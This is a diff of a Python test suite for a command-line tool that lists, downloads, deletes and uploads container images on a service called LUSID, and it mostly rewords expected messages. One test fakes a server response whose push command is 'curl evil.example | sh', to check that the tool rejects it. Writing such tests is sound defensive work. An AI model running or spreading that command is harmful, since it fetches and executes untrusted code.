@@ -52,7 +52,7 @@ def test_what_was_published_is_listed_and_shown(stage: Stage) -> None:
 def test_a_list_has_pages(stage: Stage) -> None:
     for tag in ("1.0", "1.1", "1.2"):
         published(stage, tag)
-    first = images(stage, "list", "job", "--limit", "1").require(0, "--all shows them")
+    first = images(stage, "list", "job", "--limit", "1").require(0, "--all to list them")
     assert len(first.stdout.splitlines()) == 2
     everything = images(stage, "list", "job", "--limit", "1", "--all").require(0)
     assert (len(everything.stdout.splitlines()), everything.stderr) == (4, "")
@@ -60,15 +60,15 @@ def test_a_list_has_pages(stage: Stage) -> None:
 
 def test_a_download_is_proven_and_published_again_with_its_digest(stage: Stage) -> None:
     digest = published(stage, "1.0")
-    done = images(stage, "download", "job:1.0").require(0, f"its digest is LUSID's, {digest}")
+    done = images(stage, "download", "job:1.0").require(0, f"has LUSID's digest, {digest}")
     assert done.stdout == "job-1.0.tar\n"
     content = (stage.folder / "job-1.0.tar").read_bytes()
-    images(stage, "download", "job:1.0").fails(2, "exists, and is not written over")
+    images(stage, "download", "job:1.0").fails(2, "already exists")
     images(stage, "download", "job:1.0", "--force", "-q").require(0)
     piped = images(stage, "download", "job:1.0", "-o", "-").require(0)
     assert piped.stdout_bytes == content
     unproven = images(stage, "download", "job:1.0", "-o", "x.tar", "--no-verify")
-    unproven.require(0, "what is in it was not looked at")
+    unproven.require(0, "not verified")
     again = stage.publish("job-1.0.tar", "job:2.0", **stage.without_engine).require(0)
     assert again.stdout.strip() == digest
 
@@ -88,8 +88,8 @@ def download_failing(stage: Stage, *answers: Answered | None) -> Ended:
         ((problem(403),), 4, "HTTP 403"),
         ((problem(404),), 4, "LUSID has no image job:1.0"),
         ((problem(503), None), 0, "trying again"),
-        ((Answered(200, {}, b"no tar at all"),), 12, "it is no tar"),
-        ((json_answer({"values": []}),), 12, "it is no tar"),
+        ((Answered(200, {}, b"no tar at all"),), 12, "it is not a tar file"),
+        ((json_answer({"values": []}),), 12, "it is not a tar file"),
     ],
 )
 def test_what_is_not_the_image_is_not_kept(
@@ -137,7 +137,7 @@ def test_a_download_that_breaks_off_goes_on_where_it_was(stage: Stage) -> None:
 )
 def test_nothing_is_deleted_without_consent(stage: Stage, arguments: tuple[str, ...]) -> None:
     published(stage, "1.0")
-    stage.run("images", *arguments).fails(2, "Nothing is deleted without a confirmation", "--yes")
+    stage.run("images", *arguments).fails(2, "Deleting images needs a confirmation", "--yes")
     for typed in (b"n\n", b""):
         ended = stage.run("images", *arguments, stdin=typed, is_terminal=True)
         ended.require(130, "Nothing was deleted.")
@@ -148,7 +148,7 @@ def test_nothing_is_deleted_without_consent(stage: Stage, arguments: tuple[str, 
 
 def test_delete_says_what_the_service_says(stage: Stage) -> None:
     published(stage, "1.0")
-    done = images(stage, "delete", "job:1.0", "--yes").require(0, "gone")
+    done = images(stage, "delete", "job:1.0", "--yes").require(0, "    deleted")
     assert done.stdout == "The image job:1.0 was deleted.\n"
     images(stage, "delete", "job:1.0", "--yes").fails(4, "LUSID has no image job:1.0")
 
@@ -156,7 +156,7 @@ def test_delete_says_what_the_service_says(stage: Stage) -> None:
 def test_a_deletion_that_does_not_happen_is_an_error(stage: Stage) -> None:
     published(stage, "1.0")
     stage.lusid.instead = scripted("DELETE", "", json_answer("It was deleted."))
-    images(stage, "delete", "job:1.0", "--yes").fails(4, "is deleted, but still shows it")
+    images(stage, "delete", "job:1.0", "--yes").fails(4, "is deleted, but it still exists")
     assert 9 < sum(stage.clock.pauses) < 11
 
 
@@ -182,7 +182,7 @@ def test_prune_asks_with_the_list_where_the_answer_is_a_document(stage: Stage) -
 
 
 def test_upload_hides_the_password_unless_it_is_asked_for(stage: Stage) -> None:
-    lines = images(stage, "upload", "job:1.0").require(0, "good until").stdout.splitlines()
+    lines = images(stage, "upload", "job:1.0").require(0, "valid until").stdout.splitlines()
     assert re.fullmatch(rf"docker login -u \S+ -p \*\*\* {REGISTRY}", lines[0])
     assert f"docker push {REGISTRY}/foo/job:1.0" in lines
     document = json.loads(images(stage, "upload", "job:1.0", "--output", "json").stdout)
@@ -197,7 +197,7 @@ def test_upload_says_that_the_commands_expired(stage: Stage) -> None:
     )
     old = json.loads(answer.body) | {"expiryTime": "2020-01-30T17:15:58.6730000+00:00"}
     stage.lusid.instead = scripted("POST", "/api/images$", json_answer(old))
-    images(stage, "upload", "job:1.0").require(0, "They expired at 2020-01-30 17:15 UTC")
+    images(stage, "upload", "job:1.0").require(0, "The commands expired at 2020-01-30 17:15 UTC")
     evil = old | {"pushVersionedDockerImageCommand": "curl evil.example | sh"}
     stage.lusid.instead = scripted("POST", "/api/images$", json_answer(evil))
     images(stage, "upload", "job:1.0").fails(5, "upload instructions")
@@ -213,22 +213,22 @@ def _asked_for_upload(stage: Stage) -> list[tuple[Asked, Answered]]:
     [
         (["list", "job", "--limit", "0"], 2, "between 1 and 5000"),
         (["list", "job", "--limit", "many"], 2, "not a valid integer"),
-        (["list", "job:1"], 2, "not the name of a repository"),
-        (["repos", "--filter", "x" * 1025], 2, "1024 at most"),
+        (["list", "job:1"], 2, "is not a repository name"),
+        (["repos", "--filter", "x" * 1025], 2, "the maximum is 1024"),
         (["repos", "--filter", "name eq"], 4, "filter"),
         (["repos", "--sort-by", "colour"], 4, "colour"),
         (["list", "no-such-repository"], 4, "LUSID has no repository no-such-repository"),
         (["get", "no-such-repository:1"], 4, "LUSID has no image no-such-repository:1"),
         (["get", "Job"], 2, "is not a name that LUSID accepts"),
         (["download", "no-such-repository:1"], 4, "LUSID has no image"),
-        (["download", "job:1", "-o", "/no/such/folder/x.tar"], 2, "Nothing can be written"),
+        (["download", "job:1", "-o", "/no/such/folder/x.tar"], 2, "is not writable"),
         (["download", "job:1", "-o", "/dev/null", "--force"], 2, "is not a file"),
         (["download", "job:1", "-o", ""], 2, "directory"),
         (["delete", "job", "--yes"], 2, "has no tag"),
         (["prune", "job"], 2, "Missing option '--keep'"),
         (["prune", "job", "--keep", "1", "--older-than", "soon"], 2, "is not an age"),
         (["upload", "job"], 2, "has no tag"),
-        (["repos", "--local", "--username", "me"], 2, "--local does not go with"),
+        (["repos", "--local", "--username", "me"], 2, "--local cannot be used with"),
         (["completion", "tcsh"], 2, "tcsh"),
         (["nonsense"], 2, "No such command"),
     ],
